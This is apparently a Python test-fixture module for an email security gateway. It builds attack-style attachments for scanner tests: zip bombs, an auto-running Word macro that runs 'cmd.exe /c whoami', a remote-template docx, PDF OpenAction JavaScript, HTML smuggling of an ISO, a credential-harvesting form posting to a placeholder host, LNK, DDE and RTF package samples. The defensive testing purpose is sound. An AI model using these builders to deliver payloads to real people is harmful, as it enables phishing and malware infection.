"""Attachment samples the tests build themselves: EICAR, archives, bombs, macro documents, PDF, HTML, LNK, ISO."""

from __future__ import annotations

import contextlib
import hashlib
import io
import tempfile
import uuid
import zipfile
from email.message import EmailMessage
from pathlib import Path

from mailmoat.attach.sniff import mime_of, sniff
from mailmoat.model import Message, Part

# The standard anti-virus test file (harmless by definition; every scanner detects it).
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def aes_zip(members: dict[str, bytes], password: str) -> bytes:
    import pyzipper

    buf = io.BytesIO()
    with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as zf:
        zf.setpassword(password.encode())
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def zip_bomb(expanded: int, name: str = "payload.bin") -> bytes:
    """One deflated member of `expanded` zero bytes (ratio about 1000:1), written in a streaming way."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf, zf.open(name, "w", force_zip64=True) as w:
        block = b"\0" * (1 << 20)
        left = expanded
        while left > 0:
            w.write(block[: min(left, len(block))])
            left -= len(block)
    return buf.getvalue()


def nested_bomb(levels: int, copies: int, base: int) -> bytes:
    """42.zip-style: each level holds `copies` copies of the level below; expands to base * copies**levels."""
    data = zip_bomb(base, "0.bin")
    for level in range(1, levels + 1):
        # deflate finds the identical copies inside its 32 KiB window, so each level stays small
        data = zip_bytes({f"{level}-{i}.zip": data for i in range(copies)})
    return data


def lnk_bytes(target: str = "C:\\Windows\\System32\\cmd.exe") -> bytes:
    """A minimal Windows shortcut: the 76-byte ShellLinkHeader and a relative path string."""
    header = bytearray(76)
    header[0:4] = (0x4C).to_bytes(4, "little")
    header[4:20] = bytes.fromhex("0114020000000000c000000000000046")
    header[20:24] = (0x08).to_bytes(4, "little")  # HasRelativePath
    header[60:64] = (1).to_bytes(4, "little")  # SW_SHOWNORMAL
    rel = target.encode("utf-16-le")
    return bytes(header) + (len(target)).to_bytes(2, "little") + rel


def iso_bytes(files: dict[str, bytes]) -> bytes:
    """An ISO9660 + Joliet image (what phishing uses to carry a .lnk past mark-of-the-web)."""
    import pycdlib

    iso = pycdlib.PyCdlib()
    iso.new(joliet=3)
    for i, (name, data) in enumerate(files.items()):
        iso.add_fp(io.BytesIO(data), len(data), f"/F{i}.;1", joliet_path=f"/{name}")
    out = io.BytesIO()
    iso.write_fp(out)
    iso.close()
    return out.getvalue()


def vba_project(code: str) -> bytes:
    """vbaProject.bin holding one standard module with `code` (built with ms-ovba in a scratch dir)."""
    from ms_ovba.Models.Entities.reference import Reference
    from ms_ovba.Models.Entities.reference_registered import ReferenceRegistered
    from ms_ovba.Models.Entities.std_module import StdModule
    from ms_ovba.Models.Fields.libid_reference import LibidReference
    from ms_ovba.vbaProject import VbaProject
    from ms_ovba.Views.project_ole_file import ProjectOleFile

    with tempfile.TemporaryDirectory() as tmp, contextlib.chdir(tmp):
        bas = Path(tmp) / "Module1.bas"
        bas.write_text('Attribute VB_Name = "Module1"\r\n' + code.replace("\n", "\r\n"), encoding="latin-1")
        project = VbaProject()
        project.project_id = "{9E394C0B-697E-4AEE-9FA6-446F51FB30DC}"
        module = StdModule("Module1")
        module.add_file(str(bas))
        module.normalize_file()
        project.add_module(module)
        libid = LibidReference(
            uuid.UUID("0002043000000000C000000000000046"), "2.0", "0", "C:\\Windows\\System32\\stdole2.tlb", "OLE Automation"
        )
        project.add_reference(Reference(ReferenceRegistered(libid), "stdole"))
        ProjectOleFile.write_file(project)
        return (Path(tmp) / "vbaProject.bin").read_bytes()


AUTOOPEN_MACRO = 'Sub AutoOpen()\n    Dim s As String\n    s = "cmd.exe /c whoami"\n    Shell s, vbHide\nEnd Sub\n'


def docm(macro: str = AUTOOPEN_MACRO, kind: str = "word") -> bytes:
    """A macro-enabled Word (docm) or Excel (xlsm) package around a real vbaProject.bin."""
    vba = vba_project(macro)
    if kind == "word":
        main, ctype, main_xml = (
            "word/document.xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
            '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>Enable content to view this invoice</w:t></w:r></w:p></w:body></w:document>",
        )
    else:
        main, ctype, main_xml = (
            "xl/workbook.xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
        )
    folder = main.split("/")[0]
    rels_ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    return zip_bytes({
        "[Content_Types].xml": (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            f'<Override PartName="/{main}" ContentType="{ctype}"/></Types>'
        ).encode(),
        "_rels/.rels": (
            f'<?xml version="1.0"?><Relationships xmlns="{rels_ns}">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            f'Target="{main}"/></Relationships>'
        ).encode(),
        main: main_xml.encode(),
        f"{folder}/_rels/{main.split('/')[1]}.rels": (
            f'<?xml version="1.0"?><Relationships xmlns="{rels_ns}">'
            '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/></Relationships>'
        ).encode(),
        f"{folder}/vbaProject.bin": vba,
    })


def docx_remote_template(url: str = "http://198.51.100.7/template.dotm") -> bytes:
    """A docx whose settings load a template from a remote server on open (template injection)."""
    rels_ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    return zip_bytes({
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="x"><w:body/></w:document>',
        "word/_rels/settings.xml.rels": (
            f'<?xml version="1.0"?><Relationships xmlns="{rels_ns}"><Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            f'Target="{url}" TargetMode="External"/></Relationships>'
        ).encode(),
        "word/_rels/document.xml.rels": (
            f'<?xml version="1.0"?><Relationships xmlns="{rels_ns}"><Relationship Id="rId2" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
            'Target="https://docs.example.net/view?id=42" TargetMode="External"/></Relationships>'
        ).encode(),
    })


def pdf_bytes(objects: list[bytes]) -> bytes:
    """A well-formed PDF from object bodies (object i+1 = objects[i]) with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def pdf_openaction_js(js: str = "app.alert('hello');") -> bytes:
    return pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        b"<< /Type /Action /S /JavaScript /JS (" + js.encode() + b") >>",
    ])


def pdf_link(url: str = "https://login.example-secure.test/verify") -> bytes:
    """A one-page PDF whose only content is a link annotation, its action hidden in a compressed object stream."""
    import zlib

    annot = b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (" + url.encode() + b") >> >>"
    header = b"5 0 "
    stream = header + annot
    comp = zlib.compress(stream)
    return pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R] >>",
        b"<< /Type /ObjStm /N 1 /First " + str(len(header)).encode() + b" /Filter /FlateDecode /Length "
        + str(len(comp)).encode() + b" >>\nstream\n" + comp + b"\nendstream",
    ])


def html_smuggling(payload: bytes, name: str = "invoice.iso") -> bytes:
    import base64

    b64 = base64.b64encode(payload).decode()
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Document</title></head>
<body><p>Your document is downloading...</p>
<script>
var b = "{b64}";
var bin = atob(b); var bytes = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) {{ bytes[i] = bin.charCodeAt(i); }}
var blob = new Blob([bytes], {{type: "application/octet-stream"}});
if (window.navigator.msSaveOrOpenBlob) {{ window.navigator.msSaveOrOpenBlob(blob, "{name}"); }}
else {{ var a = document.createElement("a"); a.href = window.URL.createObjectURL(blob); a.download = "{name}";
document.body.appendChild(a); a.click(); }}
</script></body></html>""".encode()


HTML_PHISH = b"""<html><head><title>Sign in</title></head><body>
<form action="https://collect.example-phish.test/post.php" method="post">
<input type="email" name="user"><input type="password" name="pass"><button>Sign in</button></form></body></html>"""


def part(path: str, filename: str, data: bytes, content_type: str = "application/octet-stream") -> Part:
    ext = sniff(data)
    return Part(
        path=path, content_type=content_type, filename=filename, disposition="attachment", size=len(data),
        sha256=hashlib.sha256(data).hexdigest(), true_type=mime_of(ext), true_ext=ext, payload=data, is_attachment=True,
    )


def message(files: list[tuple[str, bytes]], text: str = "Please see the attached file.") -> Message:
    """A parsed Message built directly (no MIME parser needed) with the given attachments."""
    parts = [Part(path="1", content_type="text/plain", payload=text.encode(), size=len(text))]
    parts += [part(str(i), name, data) for i, (name, data) in enumerate(files, start=2)]
    return Message(subject="Documents", text=text, current_thread=text, parts=parts)


def mime(files: list[tuple[str, bytes]], text: str = "Please see the attached file.", subject: str = "Documents") -> bytes:
    """The same as a raw RFC 5322 message, for end-to-end tests through the Scanner."""
    msg = EmailMessage()
    msg["From"] = "Billing <billing@example.org>"
    msg["To"] = "alice@example.com"
    msg["Subject"] = subject
    msg["Message-ID"] = "<attach-test@example.org>"
    msg.set_content(text)
    for name, data in files:
        msg.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return msg.as_bytes()


async def run_analyzers(msg: Message, settings: object, *classes: type) -> list:  # type: ignore[type-arg]
    """Findings of the given analyzer classes on `msg` (each built once, as the gateway does)."""
    from mailmoat.analyzers.base import AnalysisContext, AnalyzerEnv
    from mailmoat.model import Envelope

    env = AnalyzerEnv(settings=settings)  # type: ignore[arg-type]
    ctx = AnalysisContext(message=msg, envelope=Envelope("billing@example.org", ["alice@example.com"]), settings=settings)  # type: ignore[arg-type]
    out = []
    for cls in classes:
        out.extend(await cls(env).analyze(ctx))
    return out


def by_symbol(findings: list) -> dict:  # type: ignore[type-arg]
    return {f.symbol: f for f in findings}


def rar4(members: dict[str, bytes], method: int = 0x30) -> bytes:
    """A RAR 4 archive written by hand. Method 0x30 stores data (readable without unrar); any other
    method number declares compression (the data is then stored as-is, which a real unrar rejects)."""
    import struct
    import zlib

    def block(htype: int, flags: int, body: bytes) -> bytes:
        head = struct.pack("<BHH", htype, flags, 7 + len(body)) + body
        return struct.pack("<H", zlib.crc32(head) & 0xFFFF) + head

    out = bytearray(b"Rar!\x1a\x07\x00")
    out += block(0x73, 0, b"\0" * 6)
    for name, data in members.items():
        raw_name = name.encode()
        body = struct.pack(
            "<IIBIIBBHI", len(data), len(data), 2, zlib.crc32(data), 0x5A000000, 20, method, len(raw_name), 0x20
        ) + raw_name
        out += block(0x74, 0x8000, body) + data
    out += block(0x7B, 0x4000, b"")
    return bytes(out)


def rtf_package(filename: str, payload: bytes) -> bytes:
    """An RTF with an embedded OLE1 "Package" object carrying `payload` as `filename`."""
    import struct

    fname = filename.encode()
    path = b"C:\\tmp\\" + fname + b"\0"
    native = struct.pack("<H", 2) + fname + b"\0" + path + struct.pack("<HH", 0, 3) + path
    native += struct.pack("<I", len(payload)) + payload
    cls = b"Package\0"
    ole1 = struct.pack("<III", 0x0501, 2, len(cls)) + cls + struct.pack("<III", 0, 0, len(native)) + native
    return b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + ole1.hex().encode() + b"}}}"


def docx_dde(command: str = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"') -> bytes:
    """A docx whose body holds a DDEAUTO field split over runs, as Word writes it."""
    first, second = command[:8], command[8:]
    body = (
        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{first}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{second}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>'
    )
    return zip_bytes({
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/document.xml": body.encode(),
    })


def pdf_text(lines: list[str], link: str = "", password: str = "") -> bytes:
    """A one-page PDF (reportlab) that says `lines`, with a link over the last one; encrypted with
    `password` (RC4 128) when one is given. Chinese lines use the Adobe song font, as Chinese office
    software writes them."""
    from reportlab.lib import pdfencrypt
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    if "STSong-Light" not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    buf = io.BytesIO()
    c = canvas.Canvas(buf, encrypt=pdfencrypt.StandardEncryption(password, strength=128) if password else None)
    y = 760
    for line in lines:
        c.setFont("Helvetica" if line.isascii() else "STSong-Light", 12)
        c.drawString(72, y, line)
        y -= 20
    if link:
        c.linkURL(link, (72, y + 15, 400, y + 35))
    c.showPage()
    c.save()
    return buf.getvalue()


def docx_text(paragraphs: list[str]) -> bytes:
    """A Word document (python-docx) with one paragraph per string."""
    import docx

    d = docx.Document()
    for p in paragraphs:
        d.add_paragraph(p)
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def with_damaged_member(package: bytes, name: str, content: bytes = b"<w:document/>" * 50) -> bytes:
    """`package` (a zip) with one more member, `name`, whose deflate stream is broken: zipfile
    raises zlib.error reading it, as it does on a damaged download or a crafted file."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr(name, content)
    data = bytearray(out.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo(name)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start] = 0x07  # a final block of the reserved type 3: "invalid block type"
    return bytes(data)


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A compound file (the container of .doc, .xls and .ppt) holding `streams`, written by hand:
    one FAT sector, 512-byte sectors, every stream padded with zeros to at least the 4 KB that
    keeps it out of the mini stream. Enough for up to about 60 KB of streams."""
    import struct

    free, end, fat_mark, nostream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    # Zeros after each stream's data take it to at least 4 KB (and a whole number of sectors).
    padded = {name: data.ljust(max(4096, len(data) + -len(data) % 512), b"\0") for name, data in streams.items()}
    dir_sectors = (len(streams) + 1 + 3) // 4
    fat = [fat_mark] + [n + 2 if n + 1 < dir_sectors else end for n in range(dir_sectors)]
    starts: dict[str, int] = {}
    for name, data in padded.items():
        first = len(fat)
        count = len(data) // 512
        starts[name] = first
        fat += [first + i + 1 for i in range(count - 1)] + [end]
    assert len(fat) <= 128, "one FAT sector only"
    fat_sector = b"".join(struct.pack("<I", x) for x in fat + [free] * (128 - len(fat)))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (
            raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1) + struct.pack("<III", nostream, right, child)
            + b"\0" * 16 + b"\0" * 4 + b"\0" * 16 + struct.pack("<II", start, size) + b"\0" * 4
        )

    names = list(streams)
    entries = [entry("Root Entry", 5, 1 if names else nostream, nostream, end, 0)]
    for i, name in enumerate(names, start=1):
        entries.append(entry(name, 2, nostream, i + 1 if i < len(names) else nostream, starts[name], len(padded[name])))
    while len(entries) % 4:
        entries.append(b"\0" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", nostream, nostream, nostream) + b"\0" * 48)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0) + struct.pack("<I", free) * 108
    )
    assert len(header) == 512
    return header + fat_sector + b"".join(entries) + b"".join(padded.values())
